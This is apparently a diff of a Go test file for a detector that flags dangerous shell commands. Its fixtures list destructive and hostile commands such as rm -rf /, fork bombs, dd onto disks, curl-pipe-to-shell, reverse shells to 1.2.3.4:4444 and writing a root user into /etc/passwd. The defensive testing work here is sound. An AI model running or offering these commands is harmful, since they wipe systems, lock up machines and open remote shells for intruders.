@@ -14,7 +14,7 @@ var floorCases = []struct {
 	misses []string
 }{
 	{
-		id: FloorRmRoot,
+		id: floorRmRoot,
 		hits: []string{
 			"rm -rf /",
 			"sudo rm -rf /*",
@@ -61,7 +61,7 @@ var floorCases = []struct {
 		},
 	},
 	{
-		id: FloorForkBomb,
+		id: floorForkBomb,
 		hits: []string{
 			":(){ :|:& };:",
 			"bomb() { bomb | bomb & }; bomb",
@@ -80,7 +80,7 @@ var floorCases = []struct {
 		},
 	},
 	{
-		id: FloorDiskWrite,
+		id: floorDiskWrite,
 		hits: []string{
 			"dd if=/dev/zero of=/dev/sda bs=1M",
 			"dd if=x.img of=/dev/disk2",
@@ -107,7 +107,7 @@ var floorCases = []struct {
 		},
 	},
 	{
-		id: FloorFetchRun,
+		id: floorFetchRun,
 		hits: []string{
 			"curl -fsSL https://x | sh",
 			"wget -qO- x | sudo bash",
@@ -132,6 +132,8 @@ var floorCases = []struct {
 			"curl x | xargs -0 bash -c",
 			`bash -c 'curl x | sh'`,
 			"fetch -o - x | sh",
+			"curl x | sudo -i",
+			"curl x | FOO=1 sh",
 		},
 		misses: []string{
 			"curl -o install.sh x",
@@ -143,10 +145,11 @@ var floorCases = []struct {
 			"echo x | sh",
 			"curl x; sh y.sh",
 			"diff <(curl a) <(curl b)",
+			"curl x | sudo tee /usr/local/bin/y",
 		},
 	},
 	{
-		id: FloorReverseShell,
+		id: floorReverseShell,
 		hits: []string{
 			"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
 			"nc -e /bin/sh 1.2.3.4 4444",
@@ -172,7 +175,7 @@ var floorCases = []struct {
 		},
 	},
 	{
-		id: FloorSystemCredentials,
+		id: floorSystemCredentials,
 		hits: []string{
 			`echo "x::0:0::/:/bin/sh" >> /etc/passwd`,
 			"sudo tee -a /etc/sudoers",
@@ -202,7 +205,7 @@ var floorCases = []struct {
 		},
 	},
 	{
-		id: FloorKillInit,
+		id: floorKillInit,
 		hits: []string{
 			"kill -9 1",
 			"kill -9 -1",
@@ -248,7 +251,7 @@ var floorCases = []struct {
 		},
 	},
 	{
-		id: FloorChmodRoot,
+		id: floorChmodRoot,
 		hits: []string{
 			"chmod -R 777 /",
 			"sudo chown -R user:user /usr",
@@ -293,9 +296,9 @@ func TestFloorResult(t *testing.T) {
 		"":                          nil,
 		"ls -la":                    nil,
 		"echo 'hello world' | wc":   nil,
-		"rm -rf / ; reboot":         {FloorKillInit, FloorRmRoot},
-		"rm -rf /; rm -rf /; halt":  {FloorKillInit, FloorRmRoot},
-		"curl x | sh; nc -e sh h 1": {FloorFetchRun, FloorReverseShell},
+		"rm -rf / ; reboot":         {floorKillInit, floorRmRoot},
+		"rm -rf /; rm -rf /; halt":  {floorKillInit, floorRmRoot},
+		"curl x | sh; nc -e sh h 1": {floorFetchRun, floorReverseShell},
 		"if [ $( unparsable ((":     nil,
 	} {
 		got := Floor(text)
